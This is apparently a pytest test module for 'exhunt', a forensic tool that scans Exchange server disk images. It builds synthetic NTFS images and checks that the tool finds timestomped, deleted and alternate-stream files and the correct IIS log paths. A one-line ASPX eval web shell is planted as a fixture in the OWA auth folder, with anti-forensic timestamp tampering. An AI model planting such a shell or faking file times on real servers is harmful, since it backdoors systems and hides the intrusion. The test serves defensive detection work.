"""Disk images as collections: real NTFS images built with ntfs-3g from a synthetic server.

One image set is built per module (about 3 s): a `--plant all` synthetic server with its IIS logs
moved to a folder named only in applicationHost.config, registry hives naming the install path and
build, and, written through the ntfs-3g mount, a web shell whose times were set back, a deleted web
shell and an alternate data stream. The same tree scanned as a folder is the reference.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import shutil
import struct
import subprocess
import sys
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pytest
from typer.testing import CliRunner

from exhunt.cli import app
from exhunt.collection import open_collection
from exhunt.scan import ScanOptions, scan
from exhunt.synth import FAMILIES, generate
from tests.images.build import convert, gpt_disk, mbr_disk, missing_tools, ntfs_volume, reference_tree
from tests.images.regf import build_hive

pytest.importorskip(
    "pyfsntfs", reason="the images extra (libyal bindings) is not installed: pip install -e '.[images]'"
)
WHY = missing_tools()
pytestmark = pytest.mark.skipif(WHY is not None, reason=f"cannot build NTFS test images: {WHY}")

runner = CliRunner()
WEB = "Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth"
SHELL = b'<%@ Page Language="Jscript"%><%eval(Request.Item["exhunt_test"],"unsafe");%>\r\n'
STOMPED_AT = datetime(2020, 6, 1, 3, 4, 5, tzinfo=UTC)
APPHOST = """<?xml version="1.0" encoding="UTF-8"?>
<configuration>
  <system.applicationHost>
    <sites>
      <site name="Default Web Site" id="1">
        <application path="/"><virtualDirectory path="/" physicalPath="%SystemDrive%\\inetpub\\wwwroot" /></application>
        <logFile directory="D:\\NoSuchVolume\\Logs" />
      </site>
      <siteDefaults><logFile directory="%SystemDrive%\\IISLogs" /></siteDefaults>
    </sites>
  </system.applicationHost>
</configuration>
"""


def _filetime(t: datetime) -> int:
    d = t - datetime(1601, 1, 1, tzinfo=UTC)
    return (d.days * 86400 + d.seconds) * 10_000_000 + d.microseconds * 10


def _plant_on_volume(mount: Path) -> None:
    """What only a real NTFS volume holds: set-back times, a deleted record, a stream."""
    junction = mount / "Users/Public/Documents"
    junction.mkdir(parents=True)
    target, shown = "\\??\\C:\\Windows".encode("utf-16-le"), "C:\\Windows".encode("utf-16-le")
    body = struct.pack("<HHHH", 0, len(target), len(target) + 2, len(shown)) + target + b"\0\0" + shown + b"\0\0"
    os.setxattr(junction, "system.ntfs_reparse_data", struct.pack("<IHH", 0xA0000003, len(body), 0) + body)
    stomped = mount / WEB / "stomped.aspx"
    os.setxattr(stomped, "user.payload", b"hidden stream")  # ntfs-3g maps user.* to alternate data streams
    gone = mount / WEB / "gone.aspx"
    gone.write_bytes(SHELL)
    gone.unlink()
    t = _filetime(STOMPED_AT)
    os.setxattr(stomped, "system.ntfs_times", struct.pack("<4Q", t, t, t, t))  # created, written, accessed, changed


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    base = tmp_path_factory.mktemp("images")
    generate(base / "synth", seed=3, users=5, days=2, benign_only=False, plant=frozenset(FAMILIES), target_mb=None)
    host = reference_tree(base / "synth", base / "ref")
    c = host / "C"
    shutil.move(c / "inetpub" / "logs" / "LogFiles", c / "IISLogs")  # only applicationHost.config says where
    (c / "Windows/System32/inetsrv/config").mkdir(parents=True)
    (c / "Windows/System32/inetsrv/config/applicationHost.config").write_text(APPHOST)
    (c / "Windows/System32/config").mkdir(parents=True)
    setup = {"MsiInstallPath": "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\", "MsiProductMajor": 15,
             "MsiProductMinor": 1, "MsiBuildMajor": 2106, "MsiBuildMinor": 2}  # fmt: skip
    (c / "Windows/System32/config/SOFTWARE").write_bytes(
        build_hive({"Microsoft": {"ExchangeServer": {"v15": {"Setup": setup}}}})
    )
    system = {
        "Select": {"Current": 1},
        "ControlSet001": {"Control": {"ComputerName": {"ComputerName": {"ComputerName": "EXCH01"}}}},
    }
    (c / "Windows/System32/config/SYSTEM").write_bytes(build_hive(system))
    (c / WEB / "stomped.aspx").write_bytes(SHELL)
    os.utime(c / WEB / "stomped.aspx", (STOMPED_AT.timestamp(), STOMPED_AT.timestamp()))  # as the volume will say
    volume = ntfs_volume(c, base / "volume.raw", 48, extra=_plant_on_volume)
    disk = gpt_disk(volume, base / "disk.dd")
    out = {"ref": base / "ref", "volume": volume, "gpt": disk, "base": base}
    out["vhdx"] = convert(disk, base / "server.vhdx", "vhdx")
    out["vmdk"] = convert(disk, base / "server.vmdk", "vmdk")
    out["vhd"] = convert(disk, base / "server.vhd", "vpc")
    return out


def _findings(doc: dict) -> list[tuple]:
    return sorted(
        (
            f["rule"],
            f["host"],
            f["count"],
            f["severity"],
            tuple((e["path"], e["line"], e["raw"]) for e in f["evidence"]),
        )
        for f in doc["findings"]
    )


@pytest.fixture(scope="module")
def reference(lab: dict[str, Path]) -> dict:
    return scan(lab["ref"], ScanOptions()).to_dict()


@pytest.mark.parametrize("kind", ["vhdx", "vmdk", "gpt"])
def test_image_scan_equals_folder_scan(lab, reference, kind):
    doc = scan(lab[kind], ScanOptions()).to_dict()
    assert doc["verdict"] == reference["verdict"] == "COMPROMISED"
    assert _findings(doc) == _findings(reference)
    assert len(doc["findings"]) > 20
    assert {c["family"] for c in doc["coverage"]} == {c["family"] for c in reference["coverage"]}
    assert "log_iis" in {c["family"] for c in doc["coverage"]}  # found only through applicationHost.config
    notes = [e["reason"] for e in doc["errors"] if e["reason"].startswith("coverage note:")]
    assert any("Logging\\Diagnostics" in n for n in notes)  # what was not read is said
    json.dumps(doc)


def test_volumes_read_and_registry_used(lab):
    coll = open_collection(lab["gpt"])
    try:
        assert coll.name == "EXCH01"  # from the SYSTEM hive
        assert coll.discovery.build == "15.1.2106.2"
        source = coll.notes[0]
        assert "C: = GPT partition 2 (NTFS" in source and "GPT partition 1 (type c12a7328" in source
        paths = [i.path for i in coll.listing()]
        assert any(p.startswith("EXCH01/C/IISLogs/W3SVC1/") for p in paths)
        assert all("/config/SOFTWARE" not in p for p in paths)  # hives are read, not listed as evidence
        assert any("D:\\NoSuchVolume\\Logs" in n and "no D: volume" in n for n in coll.notes)
        assert not any("default" in n and "install path" in n for n in coll.notes)
        skipped = {e.path: e.reason for e in coll.entries() if not hasattr(e, "size")}
        assert "reparse point" in skipped["EXCH01/C/Users/Public/Documents"]  # a junction is listed, not followed
    finally:
        coll.close()


def test_mbr_disk_lists_what_the_gpt_disk_lists(lab):
    mbr = mbr_disk(lab["volume"], lab["base"] / "mbr.dd")
    a, b = open_collection(mbr), open_collection(lab["gpt"])
    try:
        assert "C: = MBR partition 1 (type 0x07, NTFS" in a.notes[0]
        assert [(i.path, i.node.size) for i in a.listing()] == [(i.path, i.node.size) for i in b.listing()]
    finally:
        a.close()
        b.close()
    mbr.unlink()


def test_vhd_lists_the_same_evidence_as_the_folder(lab):
    coll = open_collection(lab["vhd"])
    folder = open_collection(lab["ref"])
    try:
        listed = {e.path: e.size for e in coll.entries() if hasattr(e, "size")}
        every = {e.path: e.size for e in folder.entries() if hasattr(e, "size") and ".zip/" not in e.path}
        assert listed and set(listed) <= set(every)  # (members of zips inside a folder: read from folders only)
        assert all(every[p] == s for p, s in listed.items())
        assert set(every) - set(listed) == {
            "EXCH01/C/Windows/System32/config/SOFTWARE",
            "EXCH01/C/Windows/System32/config/SYSTEM",
        }
        path = f"EXCH01/C/{WEB}/stomped.aspx"
        with coll.open(path) as fh:
            assert fh.read() == SHELL
    finally:
        coll.close()
        folder.close()


def test_timestomped_deleted_and_ads_records(lab):
    from exhunt.images.fsrecords import filesystem_records

    coll = open_collection(lab["vmdk"])
    try:
        rows = {r["path"]: r for r in filesystem_records(coll).to_pylist()}
    finally:
        coll.close()
    stomped = rows[f"EXCH01/C/{WEB}/stomped.aspx"]
    assert stomped["si_created"] == STOMPED_AT and stomped["fn_created"] == STOMPED_AT  # ntfs-3g sets both alike
    assert set(stomped["tells"]) == {"whole_seconds", "before_parent", "record_order", "ads"}
    assert stomped["ads"] == ["payload"] and not stomped["deleted"]
    gone = rows[f"EXCH01/C/{WEB}/gone.aspx"]
    assert gone["deleted"] and gone["size"] == len(SHELL) and gone["si_created"] is not None
    assert [p for p, r in rows.items() if r["tells"] and not p.endswith(("stomped.aspx", "gone.aspx"))] == []
    assert all(r["kind"] in ("web", "staging") for r in rows.values())


def test_no_registry_falls_back_to_default_paths_and_says_so(lab):
    ref_c = lab["ref"] / "EXCH01" / "C"

    def fill(mount: Path) -> None:
        logs = mount / "inetpub/logs/LogFiles/W3SVC1"
        logs.mkdir(parents=True)
        src = next((ref_c / "IISLogs/W3SVC1").iterdir())
        shutil.copyfile(src, logs / src.name)

    volume = ntfs_volume(None, lab["base"] / "bare.raw", 8, extra=fill)
    coll = open_collection(volume)
    try:
        notes = " | ".join(coll.notes)
        assert (
            "SOFTWARE is absent" in notes
            and "default C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ is used" in notes
        )
        assert "default IIS log folder C:\\inetpub\\logs\\LogFiles is used" in notes
        assert coll.name == "bare" and "whole disk (NTFS)" in coll.notes[0]
        assert [i.path for i in coll.listing()] == [f"bare/C/inetpub/logs/LogFiles/W3SVC1/{src_name(ref_c)}"]
        skipped = [e for e in coll.entries() if not hasattr(e, "size")]
        assert any(e.reason.startswith("coverage note: registry hive") for e in skipped)
    finally:
        coll.close()


def src_name(ref_c: Path) -> str:
    return next((ref_c / "IISLogs/W3SVC1").iterdir()).name


def test_collect_then_scan_zip_gives_the_same_findings(lab, reference):
    out = lab["base"] / "collected.zip"
    res = runner.invoke(app, ["collect", str(lab["vhdx"]), str(out)])
    assert res.exit_code == 0, res.output
    doc = scan(out, ScanOptions()).to_dict()
    assert [(r, h, c, s, ev) for r, h, c, s, ev in _findings(doc)] == _findings(reference)
    with zipfile.ZipFile(out) as zf:
        manifest = list(csv.DictReader(io.StringIO(zf.read("_exhunt/manifest.csv").decode())))
        assert len(manifest) == sum(1 for n in zf.namelist() if not n.startswith("_exhunt/"))
        for row in manifest:
            assert hashlib.sha256(zf.read(row["path"])).hexdigest() == row["sha256"]
        stomped = next(r for r in manifest if r["path"].endswith("stomped.aspx"))
        assert stomped["si_created"].startswith("2020-06-01T03:04:05") and "whole_seconds" in stomped["tells"]
        fs_rows = zf.read("_exhunt/filesystem.csv").decode()
        assert "gone.aspx" in fs_rows
        assert "size bound: none" in zf.read("_exhunt/collection-log.txt").decode()


def test_collect_honours_the_size_bound_and_reports_what_was_left_out(lab):
    out = lab["base"] / "bounded.zip"
    res = runner.invoke(app, ["collect", str(lab["vmdk"]), str(out), "--max-size", "2M"])
    assert res.exit_code == 0, res.output
    assert "size bound left out" in " ".join(res.output.split())
    with zipfile.ZipFile(out) as zf:
        evidence = [i for i in zf.infolist() if not i.filename.startswith("_exhunt/")]
        assert 0 < sum(i.file_size for i in evidence) <= 2 << 20
        log = zf.read("_exhunt/collection-log.txt").decode()
        assert "size bound: 2,097,152 bytes; left out:" in log and "\nleft out: EXCH01/C/" in log
        assert any(i.filename.endswith("stomped.aspx") for i in evidence)  # web files go first
    res = runner.invoke(app, ["collect", str(lab["vmdk"]), str(out)])
    assert res.exit_code == 2 and "exists" in res.output  # never replaces a file


def test_bad_images_give_one_line_and_exit_2(lab):
    base = lab["base"]
    truncated = base / "truncated.vmdk"
    truncated.write_bytes(lab["vmdk"].read_bytes()[: lab["vmdk"].stat().st_size // 3])
    no_ntfs = base / "blank.dd"
    subprocess.run(["truncate", "-s", "8M", str(no_ntfs)], check=True)
    subprocess.run(["/usr/sbin/sfdisk", "-q", str(no_ntfs)], input=b"label: gpt\nstart=2048, size=4096\n", check=True)
    cases = {truncated: "truncated VMDK", no_ntfs: "no NTFS volume found"}
    if shutil.which("ewfacquire"):
        ewf = base / "ewf"
        ewf.mkdir()
        subprocess.run(["ewfacquire", "-u", "-q", "-t", str(ewf / "server"), "-S", "4MiB", "-c", "none", "-f", "encase6",
                        str(lab["gpt"])], check=True, capture_output=True)  # fmt: skip
        whole = open_collection(ewf / "server.E01")
        try:
            assert len(whole.listing()) > 500  # the complete set reads
            assert hashlib.md5(lab["gpt"].read_bytes()).hexdigest() in whole.notes[0]  # its acquisition hash is named
        finally:
            whole.close()
        (ewf / "server.E03").unlink()
        cases[ewf / "server.E01"] = "E01 set incomplete"
    for path, reason in cases.items():
        res = runner.invoke(app, ["scan", str(path), "-q"])
        assert res.exit_code == 2, (path, res.output)
        assert reason in res.output and "Traceback" not in res.output
        assert len(res.output.strip().splitlines()) <= 3  # one message (the terminal may wrap it)


def test_without_the_extra_an_image_gives_one_line_naming_it(lab):
    code = (
        "import sys; sys.modules['pyfsntfs'] = None\n"
        "from exhunt.cli import app\n"
        f"app(['scan', {str(lab['vhdx'])!r}, '-q'])\n"
    )
    res = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, env={**os.environ, "COLUMNS": "300"}
    )
    assert res.returncode == 2
    assert "pip install 'exhunt[images]'" in res.stderr and "Traceback" not in res.stderr
    assert len(res.stderr.strip().splitlines()) == 1


def test_mounted_volume_is_read_by_targeted_discovery(lab):
    c = lab["ref"] / "EXCH01" / "C"
    coll = open_collection(c)  # a folder holding Windows\System32\config\SOFTWARE at its top: a mounted volume
    try:
        assert coll.name == "EXCH01" and coll.discovery.build == "15.1.2106.2"
        paths = {i.path for i in coll.listing()}
        assert f"EXCH01/C/{WEB}/stomped.aspx" in paths and any("/IISLogs/W3SVC2/" in p for p in paths)
    finally:
        coll.close()


def test_live_mode_through_the_fake_gives_the_folder_findings(lab, reference):
    from exhunt.images.live import FolderLiveSystem, open_live_collection
    from exhunt.images.registry import RegistryFacts

    facts = RegistryFacts(install_path="C:\\Program Files\\Microsoft\\Exchange Server\\V15\\", build="15.1.2106.2")
    drive = lab["base"] / "live-C"
    shutil.copytree(lab["ref"] / "EXCH01" / "C", drive)
    held = drive / "Windows/System32/winevt/Logs/MSExchange Management.evtx"  # held open by the EventLog service
    held.write_bytes(b"ElfFile\0" + b"\0" * 4088)
    system = FolderLiveSystem(drive, "EXCH01", facts)
    work = lab["base"] / "live-work"
    coll = open_live_collection(system, work)
    doc = scan(coll, ScanOptions()).to_dict()
    assert _findings(doc) == _findings(reference)
    assert system.exported == [held.name]  # the .evtx came from its export, the rest as they are
    listed = {i.path: i for i in coll.listing()}
    assert listed[f"EXCH01/C/Windows/System32/winevt/Logs/{held.name}"].node.ref == str(work / held.name)
    assert any("share-read" in n for n in coll.notes)
    assert [p.name for p in work.iterdir()] == [held.name]  # exports only in the chosen work folder


def test_live_flag_off_windows_is_one_clear_line():
    if sys.platform == "win32":
        pytest.skip("this checks the message on other systems")
    res = runner.invoke(app, ["scan", "--live", "-q"])
    assert res.exit_code == 2 and "--live reads the Windows server" in res.output
    res = runner.invoke(app, ["scan", "-q"])
    assert res.exit_code == 2 and "missing PATH" in res.output


def test_a_vhdx_of_collected_files_is_read_whole(lab):
    """A KAPE/Velociraptor-style VHDX holds a triage tree, not Windows: every file, under its own path."""
    synth = lab["base"] / "synth"
    volume = ntfs_volume(synth, lab["base"] / "kape.raw", 24)
    vhdx = convert(volume, lab["base"] / "kape.vhdx", "vhdx")
    coll, folder = open_collection(vhdx), open_collection(synth)
    try:
        inside = {e.path: e.size for e in coll.entries() if hasattr(e, "size")}
        expected = {
            e.path: e.size for e in folder.entries() if hasattr(e, "size") and ".zip/" not in e.path
        }  # inner zips: folders only
        assert inside == expected and len(inside) > 500
        some = sorted(inside)[::97]
        for p in some:
            with coll.open(p) as a, folder.open(p) as b:
                assert a.read() == b.read()
        assert "container of collected files" in coll.notes[1] and "whole disk (NTFS)" in coll.notes[0]
    finally:
        coll.close()
        folder.close()


def test_a_damaged_mft_never_raises_nor_hangs(lab):
    """Random bytes written over the MFT: open, list, read and records end, with InputError at worst."""
    import random

    from exhunt.errors import InputError
    from exhunt.images.fsrecords import filesystem_records

    original = lab["volume"].read_bytes()
    per_sector, per_cluster = struct.unpack_from("<HB", original, 11)
    mft = struct.unpack_from("<Q", original, 48)[0] * per_sector * per_cluster
    damaged = lab["base"] / "damaged.raw"
    rng = random.Random(7)
    opened = 0
    for _ in range(12):
        data = bytearray(original)
        for _ in range(rng.randint(5, 200)):
            data[mft + rng.randrange(200 * 1024)] = rng.randrange(256)
        damaged.write_bytes(data)
        try:
            coll = open_collection(damaged)
        except InputError:
            continue
        opened += 1
        try:
            for e in coll.entries():
                if hasattr(e, "size"):
                    try:
                        with coll.open(e.path) as fh:
                            assert len(fh.read()) <= e.size
                    except OSError:
                        pass  # an unreadable file is the reader's error line, not a crash
            filesystem_records(coll)
        finally:
            coll.close()
    assert opened > 0


def test_draft_filesystem_rules_find_the_stomped_deleted_and_streamed_shell(lab, monkeypatch):
    """The rules in exhunt/images/rules/ over the records table, once the lead registers the
    `filesystem` source (table fs_records): registered here for the test only."""
    import duckdb

    from exhunt.families import Family
    from exhunt.images.fsrecords import filesystem_records
    from exhunt.rules import model
    from exhunt.rules.native import Compiler

    monkeypatch.setattr(model, "SOURCES", (*model.SOURCES, "filesystem"))
    folder = Path(__file__).resolve().parents[2] / "src/exhunt/images/rules"
    rules = {r.id: r for r in (model.load_rule_file(p) for p in sorted(folder.glob("*.yaml")))}
    coll = open_collection(lab["gpt"])
    try:
        records = filesystem_records(coll)
    finally:
        coll.close()
    con = duckdb.connect()
    con.register("fs_records", records)
    view = Family(
        "filesystem", "fs_records", "NTFS records", "config", time_sql="t.si_created", default_group=("path",)
    )
    columns = [d[0] for d in con.execute("SELECT * FROM fs_records LIMIT 0").description]
    hits = {}
    for rule_id, rule in rules.items():
        comp = Compiler(view, columns, {})
        where = comp.compile(rule.where)
        rows = con.execute(f"SELECT path FROM fs_records t WHERE {where}", comp.args).fetchall()
        hits[rule_id] = sorted(p.rsplit("/", 1)[-1] for (p,) in rows)
    assert hits == {
        "fs-script-timestomped": ["stomped.aspx"],
        "fs-script-deleted": ["gone.aspx"],
        "fs-script-stream": ["stomped.aspx"],
    }
